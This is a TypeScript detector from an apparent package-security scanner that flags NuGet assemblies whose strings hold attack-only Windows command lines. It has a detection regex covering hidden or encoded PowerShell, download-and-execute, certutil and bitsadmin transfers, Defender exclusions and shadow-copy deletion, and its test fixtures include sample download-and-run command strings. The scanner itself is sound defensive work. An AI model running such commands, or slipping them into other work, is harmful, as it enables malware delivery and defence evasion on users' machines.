import type { Detector } from "../detector.ts";
import { assembliesWith, COMPOSING, textsOf } from "./_dotnet.ts";

const LITERALS = [
  ...COMPOSING,
  "powershell",
  "cmd.exe",
  "mshta",
  "certutil",
  "bitsadmin",
  "schtasks",
  "currentversion\\run",
  "add-mppreference",
  "regsvr32",
] as const;
const ATTACK =
  /powershell[^\n]{0,300}(?:[ "']-e(?:c|nc|ncodedcommand)?[ "']|-w(?:indowstyle|in)?[ "']{1,3}hidden|downloadstring|downloadfile|\biex\b|invoke-expression|frombase64string)|mshta(?:\.exe)?[ "']{1,3}(?:https?|vbscript|javascript):|certutil[^\n]{0,60}(?:urlcache|-decode)|bitsadmin[^\n]{0,40}\/transfer|schtasks[^\n]{0,60}\/create|add-mppreference[^\n]{0,20}-exclusion|regsvr32[^\n]{0,80}(?:scrobj|\/i:http)|vssadmin[^\n]{0,20}delete[ ]{1,3}shadows|cmd(?:\.exe)?[ "']{1,3}\/c[^\n]{0,200}(?:curl|bitsadmin|certutil|powershell)/i;

export const assemblyCommandsShell: Detector = {
  id: "assembly-commands-shell",
  title: "An assembly holds a command line that only attacks use",
  severity: "critical",
  ecosystems: ["nuget"],
  points: 5,
  class: "threat",
  group: "assembly-strings",
  why: `A string constant of the program is a command line for PowerShell or another Windows tool that hides its window, runs an encoded command,
fetches and executes, excludes a folder from virus protection or settles in the machine.

Remote-management and security-testing libraries carry such lines on purpose. A build constant found in documentation is not text of the
program and is not looked at.`,
  literals: LITERALS,
  *detect(tree) {
    for (const { file, assembly } of assembliesWith(tree, LITERALS)) {
      for (const text of textsOf(assembly)) {
        const match = text.length < 12 ? null : ATTACK.exec(text.slice(0, 20_000));
        if (!match) continue;
        yield { path: file.path, line: null, says: `holds the command: ${match[0].slice(0, 180)}` };
        break;
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            "assembly Demo\nmethod Demo.A::B calls System.String::Format\nstring powershell.exe -WindowStyle Hidden -Command iwr https://example.invalid/a",
        },
      },
    ],
    passes: [
      {
        ecosystem: "nuget",
        files: {
          "lib/net6.0/Demo.dll":
            "assembly Demo\nmethod Demo.A::B calls System.String::Format\nstring powershell.exe -NoProfile -File build.ps1\nstring cmd.exe /c dir",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "nuget",
        files: {
          "tools/Demo.exe":
            "assembly Demo\nmethod Demo.A::B calls System.String::Format\nstring CMD /c start /min PowerShell -nop -w hidden -enc AAAA",
        },
      },
    ],
  },
};
